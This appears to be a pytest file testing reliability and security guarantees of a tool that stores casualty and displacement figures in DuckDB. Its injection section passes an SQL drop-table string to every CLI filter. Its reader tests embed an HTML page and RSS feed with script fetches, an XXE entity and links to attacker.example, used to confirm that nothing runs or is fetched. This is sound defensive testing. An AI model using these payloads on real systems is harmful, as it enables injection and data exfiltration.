"""Reliability and safety guarantees of the store and the CLI (issue 9), in one process.

Decisions never make the claims frame unservable; an old database is upgraded in place after a
backup and a newer one is refused untouched; no filter reaches SQL as text; readers fetch
nothing; every failure is recorded and shown by ``hum-stats review`` and ``hum-stats status``;
documents and claims per document are bounded. The tests that need other processes (SIGKILL,
two writers, memory) are in tests/test_faults.py.
"""

from __future__ import annotations

import ast
import json
import socket
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

import hum_stats
import hum_stats.extract
from hum_stats.claims import Claim
from hum_stats.cli import app
from hum_stats.errors import InputError, StoreError
from hum_stats.store.database import HELD_BACK, MAX_CLAIMS_PER_DOCUMENT
from hum_stats.store.migrations import MIGRATIONS

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[1]
EVIL = "'; DROP TABLE claims; --"


def invoke(*args: str):
    return runner.invoke(app, list(args))


# -- 8. a decision that breaks a check holds that claim back, the rest is served -----------------


def test_a_correction_that_makes_a_subset_larger_than_its_parent_holds_back_only_that_claim(filled_db):
    db = filled_db
    claims = db.claims()
    parent = claims.loc[(claims["group"] == "civilians") & (claims["value"] == 41)].iloc[0]
    child = claims.loc[claims["parent_claim_id"] == parent["claim_id"]].iloc[0]
    assert child["value"] == 15
    db.decide(parent["claim_id"], "correct", value=14, who="ana", why="typo")
    served = db.claims()  # used to raise SchemaError for the whole database
    assert len(served) == len(claims) - 1
    assert child["claim_id"] not in set(served["claim_id"])
    assert served.loc[served["claim_id"] == parent["claim_id"], "value"].item() == 14
    items = db.review_items(open_only=True)
    held = items.loc[items["claim_id"] == child["claim_id"]]
    assert held[["kind", "reason"]].values.tolist() == [["check", "subset_not_larger_than_parent"]]
    assert held["detail"].item().startswith(HELD_BACK)
    assert db.status()["claims_held"] == 1
    assert len(db.running_totals())  # everything downstream works
    # the analyst settles it: the child is served again and its item goes away
    db.decide(parent["claim_id"], "correct", value=41, who="ana", why="the typo was mine")
    assert child["claim_id"] in set(db.claims()["claim_id"])
    items = db.review_items(open_only=True)
    assert child["claim_id"] not in set(items.loc[items["kind"] == "check", "claim_id"])


def test_the_cli_serves_claims_and_lists_the_held_back_one_after_such_a_correction(filled_db):
    claims = filled_db.claims()
    parent = claims.loc[(claims["group"] == "civilians") & (claims["value"] == 41), "claim_id"].item()
    filled_db.decide(parent, "correct", value=14, who="ana", why="typo")
    path = filled_db.path
    filled_db.close()
    result = invoke("claims", "--format", "json", "--db", path)
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)) == len(claims) - 1
    result = invoke("review", "--db", path)
    assert "[check · subset_not_larger_than_parent]" in result.stdout
    assert "15 individuals killed (children)" in result.stdout


# -- 4. migrations: an old database upgraded in place, backed up; a newer one refused ----------


def make_version_1(path: Path) -> None:
    """A database as hum_stats wrote it at schema version 1, with a document, claims, a decision."""
    con = duckdb.connect(str(path))
    con.execute(
        "CREATE TABLE schema_version (version INTEGER PRIMARY KEY, description VARCHAR, applied_at TIMESTAMP)"
    )
    number, description, statements = MIGRATIONS[0]
    for sql in statements:
        con.execute(sql)
    con.execute("INSERT INTO schema_version VALUES (?, ?, now()::TIMESTAMP)", [number, description])
    text = "Since December 1200 families were displaced and 30 civilians were killed, 12 children among them."
    con.execute(
        """INSERT INTO documents VALUES ('d1', ?, 'Report', 'en', DATE '2020-01-06', 'Test Monitor',
           'https://example.org/w1', 'w1.md', 'text', 'w1', now()::TIMESTAMP)""",
        [text],
    )
    for idx, (cid, unit, group, value, subset, start, end) in enumerate(
        [("c1", "families", "all", 1200, None, 15, 43), ("c2", "individuals", "civilians", 30, None, 48, 72),
         ("c3", "individuals", "children", 12, 1, 74, 97)]
    ):  # fmt: skip
        metric = "displaced" if unit == "families" else "killed"
        con.execute(
            """INSERT INTO claims VALUES (?, 'd1', ?, ?, ?, ?, ?, 'exact', NULL, NULL, NULL, NULL, ?, ?, ?, ?,
               NULL, '0.9', 'machine', true, now()::TIMESTAMP)""",
            [cid, idx, metric, unit, group, value, subset, start, end, text[start:end]],
        )
    con.execute("""INSERT INTO decisions VALUES ('c2', 'correct', 31, 'ana', 'typo', now()::TIMESTAMP)""")
    con.execute("INSERT INTO review VALUES ('c1', 'd1', 'plausible_value', 'old item', now()::TIMESTAMP)")
    con.close()


def test_a_version_1_database_is_backed_up_then_upgraded_in_place_with_its_data(tmp_path):
    path = tmp_path / "old.duckdb"
    make_version_1(path)
    original = path.read_bytes()
    with hum_stats.open(path) as db:
        assert db.schema_version == MIGRATIONS[-1][0]
        claims = db.claims()
        assert claims[["claim_id", "value", "status"]].values.tolist() == [
            ["c1", 1200, "machine"], ["c2", 31, "corrected"], ["c3", 12, "machine"]
        ]  # fmt: skip
        assert claims.loc[claims["claim_id"] == "c3", "parent_claim_id"].item() == "c2"
        assert db.review_items()["kind"].tolist() == ["check"]  # migration 3 filled the kind
        sources = db.con.execute("SELECT doc_id, source FROM document_sources").fetchall()
        assert sources == [("d1", "w1.md")]  # migration 4 filled the sources
        assert db.status()["failures"] == 0  # migration 5 made the failures table
    [backup] = tmp_path.glob("old.duckdb.bak-v1-*")
    assert backup.read_bytes() == original
    with duckdb.connect(str(backup), read_only=True) as con:
        assert con.execute("SELECT max(version) FROM schema_version").fetchall() == [(1,)]
    hum_stats.open(path).close()  # up to date: no second backup
    assert len(list(tmp_path.glob("old.duckdb.bak-*"))) == 1


def test_a_failed_migration_leaves_the_database_at_its_version_and_the_backup(tmp_path, monkeypatch):
    path = tmp_path / "old.duckdb"
    make_version_1(path)
    broken = [*MIGRATIONS[:2], (3, "broken", ("ALTER TABLE no_such_table ADD COLUMN x INTEGER",))]
    monkeypatch.setattr("hum_stats.store.migrations.MIGRATIONS", broken)
    monkeypatch.setattr("hum_stats.store.database.MIGRATIONS", broken)
    with pytest.raises(StoreError, match="cannot bring the database schema up to date"):
        hum_stats.open(path)
    with duckdb.connect(str(path), read_only=True) as con:  # migration 2 applied, 3 rolled back
        assert con.execute("SELECT max(version) FROM schema_version").fetchall() == [(2,)]
        assert con.execute("SELECT count(*) FROM claims").fetchall() == [(3,)]
    assert len(list(tmp_path.glob("old.duckdb.bak-v1-*"))) == 1


# -- 5. no injection ------------------------------------------------------------------------------

#: Every filter of every reading command, with the hostile value.
FILTERS = {
    "claims": [["claims", "--metric", EVIL], ["claims", "--unit", EVIL], ["claims", "--group", EVIL],
               ["claims", "--since", EVIL], ["claims", "--until", EVIL], ["claims", "--organisation", EVIL]],
    "observations": [["observations", "--metric", EVIL], ["observations", "--unit", EVIL],
                     ["observations", "--group", EVIL], ["observations", "--since", EVIL],
                     ["observations", "--until", EVIL], ["observations", "--organisation", EVIL]],
    "export": [["export", "-o", "{out}", "--metric", EVIL], ["export", "-o", "{out}", "--unit", EVIL],
               ["export", "-o", "{out}", "--group", EVIL], ["export", "-o", "{out}", "--place", EVIL],
               ["export", "-o", "{out}", "--since", EVIL], ["export", "-o", "{out}", "--until", EVIL],
               ["export", "-o", "{out}", "--organisation", EVIL], ["export", "-o", "{out}", "--claims", "--place", EVIL]],
    "review": [["review", "--kind", EVIL], ["review", "accept", EVIL], ["review", "reject", EVIL, "--why", EVIL],
               ["review", "correct", EVIL, "--value", "1", "--why", EVIL]],
    "chart": [["chart", "--out", "{tmp}/" + EVIL]],
    "claims add": [["claims", "add", "--url", EVIL, "--published", "2020-01-01", "--metric", "killed",
                    "--unit", "individuals", "--value", "1", "--quote", EVIL, "--organisation", EVIL]],
}  # fmt: skip
CASES = [(name, args) for name, group in FILTERS.items() for args in group]


def _case_id(name: str, args: list[str]) -> str:
    option = next((a for a, b in zip(args, args[1:], strict=False) if EVIL in b and a.startswith("-")), None)
    return f"{name}:{option or 'argument'}"


@pytest.mark.parametrize("args", [c[1] for c in CASES], ids=[_case_id(*c) for c in CASES])
def test_a_hostile_filter_value_changes_nothing(filled_db, tmp_path, args):
    path = filled_db.path
    before = filled_db.counts()
    claims_before = filled_db.claims()
    filled_db.close()
    args = [a.format(out=tmp_path / "out.csv", tmp=tmp_path) for a in args]
    result = invoke(*args, "--db", path)
    if result.exit_code == 0:  # accepted as a plain value: nothing matches it, or it is stored as text
        out = result.stdout
        assert EVIL not in out or args[:2] == ["claims", "add"] or "chart" in args, out
        if args[0] == "export":
            assert len((tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()) == 2  # header + HXL
        elif args[0] in ("claims", "observations") and args[1] != "add":
            assert (
                "no claims match" in result.output
                or "no observations" in result.output.lower()
                or not out.strip("[]\n")
            )
    else:
        assert result.exit_code in (1, 2), result.output
        message = result.output.strip().splitlines()[-1]
        assert (
            message.startswith(("Error: ", "Error: Invalid value", "│", "╰"))
            or "Invalid value" in result.output
        )
    with hum_stats.open(path) as db:
        after = db.counts()
        assert db.con.execute(
            "SELECT count(*) FROM information_schema.tables WHERE table_name = 'claims'"
        ).fetchall() == [(1,)]
        if args[:2] == ["claims", "add"]:
            assert after["claims"] == before["claims"] + 1
            assert EVIL in set(db.claims()["quote"])  # stored as text, verbatim
        else:
            assert after == before
            assert db.claims().equals(claims_before)


#: f-string SQL that was read and found to interpolate constants only: file -> expressions.
REVIEWED_SQL_INTERPOLATIONS: dict[str, set[str]] = {
    "hum_stats/store/database.py": {"table"},
    # served_claims_sql: the store's fixed query plus fixed clauses; the filter values go as ? parameters
    "hum_stats/store/totals.py": {"served_sql"},
    # COPY ... TO takes no parameter for its path: paths go through _sql_path, which doubles quotes
    "hum_stats/store/bulk.py": {"table", "order", "_sql_path(target)", "src['documents']", "src['claims']",
                                "src['review']", "src[table]", "keep"},
}  # fmt: skip


def test_no_sql_is_built_from_values_in_f_strings():
    """Every f-string handed to DuckDB interpolates only reviewed constants (table names...)."""
    found: dict[str, set[str]] = {}
    for file in sorted((ROOT / "hum_stats").rglob("*.py")):
        tree = ast.parse(file.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            if node.func.attr not in ("execute", "executemany", "sql", "query") or not node.args:
                continue
            for part in ast.walk(node.args[0]):
                if isinstance(part, ast.FormattedValue):
                    rel = str(file.relative_to(ROOT))
                    found.setdefault(rel, set()).add(ast.unparse(part.value).replace('"', "'"))
    unreviewed = {f: sorted(e - REVIEWED_SQL_INTERPOLATIONS.get(f, set())) for f, e in found.items()}
    assert not {f: e for f, e in unreviewed.items() if e}, (
        "SQL built with f-strings from these values; pass values as ? parameters "
        "(or, for a constant name, add it to REVIEWED_SQL_INTERPOLATIONS after reading the code)"
    )


# -- 5. readers parse, never run or fetch ----------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[tuple]:
    attempts: list[tuple] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network use refused by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


HOSTILE_PAGE = """<!doctype html><html><head><meta charset="utf-8">
<title>Displacement in Idlib</title>
<meta http-equiv="refresh" content="0; url=http://attacker.example/refresh">
<link rel="canonical" href="http://attacker.example/canonical">
<link rel="stylesheet" href="http://attacker.example/style.css">
<script src="http://attacker.example/x.js"></script>
<script>fetch('http://attacker.example/exfil'); document.write('SCRIPT-RAN 999 families were displaced');</script>
</head><body onload="fetch('http://attacker.example/onload')">
<article><h1>Displacement in Idlib</h1>
<p>Published 2020-01-06. Since December 1200 families were displaced and 30 civilians were killed,
12 children among them, according to monitors who counted them over several weeks of shelling.</p>
<p>More reporting at <a href="http://attacker.example/more">this page</a> and an image
<img src="http://attacker.example/pixel.gif"> <iframe src="http://attacker.example/frame"></iframe></p>
</article></body></html>
"""
HOSTILE_FEED = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://attacker.example/xxe">]>
<rss version="2.0"><channel><title>Monitor</title><link>http://attacker.example/</link>
<item><title>Report</title><link>http://attacker.example/item</link>
<enclosure url="http://attacker.example/file.mp3" length="1" type="audio/mpeg"/>
<pubDate>Mon, 06 Jan 2020 10:00:00 GMT</pubDate>
<description>Since December 1200 families were displaced. &xxe;</description></item>
</channel></rss>
"""


def test_saved_pages_and_feeds_are_parsed_never_run_nor_fetched(db, tmp_path, no_network, fake_extractor):
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (folder / "feed.rss").write_text(HOSTILE_FEED, encoding="utf-8")
    report = db.ingest_paths([folder])
    assert not no_network, f"a reader tried to use the network: {no_network}"
    texts = " ".join(db.documents()["text"])
    assert "1200 families were displaced" in texts
    assert "SCRIPT-RAN" not in texts and "fetch(" not in texts
    assert report.new >= 1


# -- 7. nothing lost silently: failures recorded, shown by review and status ----------------------


def test_every_failure_is_recorded_with_its_reason_and_shown_by_review_and_status(db, tmp_path, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "empty.txt").write_text("", encoding="utf-8")
    (folder / "binary.txt").write_bytes(b"\x00\x01\x02" * 10)
    (folder / "dump.jsonl").write_text('{"id": "a", "text": "1200 families were displaced"}\n{bad json\n')
    (folder / "crash.md").write_text("---\nid: crash\n---\nthis text breaks the extractor\n")
    (folder / "odd.md").write_text("---\nid: odd\npublished: 2020-01-06\n---\n9 families were displaced\n")

    def extract(text, language=None, published=None):
        if "breaks" in text:
            raise RuntimeError("boom")
        claims = [Claim("displaced", "families", "all", 1200, start=0, end=4, quote=text[:4])]
        if text.startswith("9 "):  # a subset pointing nowhere: a claim that fails validation
            claims = [Claim("displaced", "families", "all", 9, subset_of=5, start=0, end=1, quote="9")]
        return claims

    monkeypatch.setattr(hum_stats.extract, "extract", extract)
    report = db.ingest_paths([folder])
    assert report.failed == 4
    failures = db.failures()
    assert sorted(failures["stage"]) == ["extract", "read", "read", "read"]
    by_source = dict(zip(failures["source"], failures["message"], strict=True))
    assert "file is empty" in by_source[str(folder / "empty.txt")]
    assert "binary file" in by_source[str(folder / "binary.txt")]
    assert "not valid JSON" in by_source[f"{folder / 'dump.jsonl'}:2"]
    assert (
        "extraction failed (RuntimeError: boom); report this document as a bug"
        in by_source[str(folder / "crash.md")]
    )
    db.ingest_paths([folder])  # met again: counted, not duplicated
    assert db.failures()["times"].tolist() == [2, 2, 2, 2]
    status = db.status()
    assert status["failures"] == 4 and status["claims_held"] == 1 and status["open_review_items"] >= 1
    path = db.path
    db.close()
    shown = invoke("review", "--db", path).stdout
    assert "[failure] 4 file(s), line(s) or document(s) could not be read or extracted:" in shown
    assert "subset_refers_to_claim" in shown  # the claim that failed validation
    as_json = json.loads(invoke("review", "--kind", "failure", "--format", "json", "--db", path).stdout)
    assert len(as_json) == 4 and all(row["message"] for row in as_json)
    result = invoke("status", "--json", "--db", path)
    assert result.exit_code == 0
    assert json.loads(result.stdout)["failures"] == 4
    table = invoke("status", "--db", path).stdout
    assert "failures recorded" in table and "open review items" in table


# -- 6. bounded documents and claims ---------------------------------------------------------------


def test_a_document_over_the_size_limit_is_refused_by_name_and_recorded(db, tmp_path):
    big = tmp_path / "big.jsonl"
    text = "ا" * (hum_stats.extract.MAX_TEXT_CHARS + 1)
    big.write_text(json.dumps({"id": "big", "text": text}) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match="over the limit of 2,000,000; split it into articles"):
        hum_stats.extract.extract(text)
    report = db.ingest_paths([big], options=hum_stats.readers.make_options(max_bytes=10**8))
    assert report.failed == 1 and report.new == 0
    [message] = report.failures
    assert message.startswith(f"{big}: document of 2,000,001 characters is over the limit")
    assert db.failures()["stage"].tolist() == ["limit"]
    # JSON lines stream: the --max-size limit applies to each line (one document)
    small = hum_stats.readers.make_options(max_bytes=1024 * 1024)
    report = db.ingest_paths([big], options=small)
    assert report.failures[0].startswith(f"{big}:1: document of ")
    assert report.failures[0].endswith("over the limit of 1,048,576; split it or raise the limit with --max-size")


def test_the_store_keeps_at_most_the_claim_limit_of_a_document_and_says_so(db, tmp_path, monkeypatch):
    n = MAX_CLAIMS_PER_DOCUMENT + 7

    def extract(text, language=None, published=None):
        return [Claim("killed", "individuals", "all", i, start=i, end=i + 1, quote=text[i]) for i in range(n)]

    monkeypatch.setattr(hum_stats.extract, "extract", extract)
    (tmp_path / "many.md").write_text("---\nid: many\n---\n" + "x" * (n + 1) + "\n")
    report = db.ingest_paths([tmp_path / "many.md"])
    assert db.counts()["claims"] == MAX_CLAIMS_PER_DOCUMENT
    assert report.failures == [
        f"{tmp_path / 'many.md'}: {n:,} claims, over the limit of {MAX_CLAIMS_PER_DOCUMENT:,} per document; "
        f"the first {MAX_CLAIMS_PER_DOCUMENT:,} are stored, split the document into articles to keep the rest"
    ]


def test_the_extractor_stops_near_its_claim_limit():
    from hum_stats.extract.engine import MAX_CLAIMS_PER_DOCUMENT as ENGINE_MAX

    sentence = "ما أدى إلى نزوح 65452 عائلة (425438 نسمة) ومقتل 568 مدنيًا بينهم 162 طفلًا. "
    assert len(hum_stats.extract.extract(sentence, language="ar")) == 4
    text = sentence * (ENGINE_MAX // 4 + 200)
    claims = hum_stats.extract.extract(text, language="ar")
    # the engine checks its limit after each sentence: one sentence's claims may pass it
    assert ENGINE_MAX <= len(claims) <= ENGINE_MAX + 10
